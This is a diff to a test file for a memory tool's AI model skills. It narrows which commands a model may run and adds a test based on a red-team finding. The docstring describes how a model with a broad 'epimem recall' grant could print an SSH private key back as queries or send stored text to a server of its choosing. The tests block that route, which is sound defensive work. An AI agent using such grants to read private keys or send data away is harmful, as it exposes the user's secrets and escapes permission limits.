@@ -17,8 +17,8 @@ ROOT = Path(__file__).resolve().parents[2]
 SKILLS = ROOT / "epimem" / "templates" / "claude" / "plugin" / "skills"
 
 # What the model may run by itself: recording observations and reading.
-MODEL = {"observe": {"skill observe", "observe", "recall", "belief list", "belief show"},
-         "mirror": {"skill mirror", "mirror calibration", "observe", "recall", "belief show"}}
+MODEL = {"observe": {"skill observe", "observe", "skill recall", "belief list", "belief show"},
+         "mirror": {"skill mirror", "mirror calibration", "observe", "skill recall", "belief show"}}
 # The user's decisions (SPEC rule 22), each as a command a careless model would run.
 USER = ["belief add --title T --statement S --kind trait --basis fact --permanence stable",
         "belief edit ID --confidence 0.90", "belief retire ID", "belief reject ID --note n",
@@ -146,3 +146,33 @@ def test_the_transcript_pass_is_not_reachable_through_observe(tmp_path):
         assert p.returncode == 2 and "epimem transcript FILE" in p.stderr, p.stderr  # … epimem does not
     after = subprocess.run(["git", "-C", str(root), "rev-parse", "HEAD"], capture_output=True, text=True).stdout
     assert after == head and not list((root / "observations").glob("*.md"))
+
+
+# What `recall` lets its user choose and a model must not: a file read and printed back as queries,
+# and where the vault's text is sent (a Chroma server, an embedder).
+BEYOND_A_QUERY = [("--queries", "{secret}"), ("--chroma-url", "http://198.51.100.7:8000"),
+                  ("--embedder", "ollama:nomic-embed-text")]
+
+
+@pytest.mark.parametrize("name", ["observe", "mirror"])
+@pytest.mark.parametrize("flag,value", BEYOND_A_QUERY, ids=[f for f, _ in BEYOND_A_QUERY])
+def test_what_a_skill_may_recall_reads_no_file_and_sends_nothing_away(name, flag, value, cli, tmp_path):
+    """A red-team finding: `Bash(epimem recall *)` let a model run `epimem recall --queries
+    ~/.ssh/id_ed25519` (each line printed back as a query) or `--chroma-url` a server of its
+    choosing. The skills grant `skill recall`, which takes a query and the filters only."""
+    from epimem.api.memory import Memory
+
+    root = tmp_path / "v"
+    Memory.init(root)
+    secret = tmp_path / "private.txt"
+    secret.write_text("the line no model should read\n")
+    value = value.format(secret=secret)
+    rule = next(r for r in allowed(name) if "recall" in r)
+    for cmd in (f"epimem recall x {flag} {value}", f"epimem recall {flag} {value}"):
+        assert not any(permits(r, cmd) for r in allowed(name)), cmd  # the user's command: the prompt asks
+    assert permits(rule, f"epimem skill recall x {flag} {value}")  # the grant's prefix takes it, so the command must refuse
+    r = cli("--vault", root, "skill", "recall", "x", flag, value)
+    assert r.code == 2 and f"no option {flag}" in r.err, r.err
+    assert "no model should read" not in r.out + r.err
+    ok = cli("--vault", root, "skill", "recall", "small pull requests", "-n", "3", "--json")
+    assert ok.code == 0 and ok.json()["results"] == []
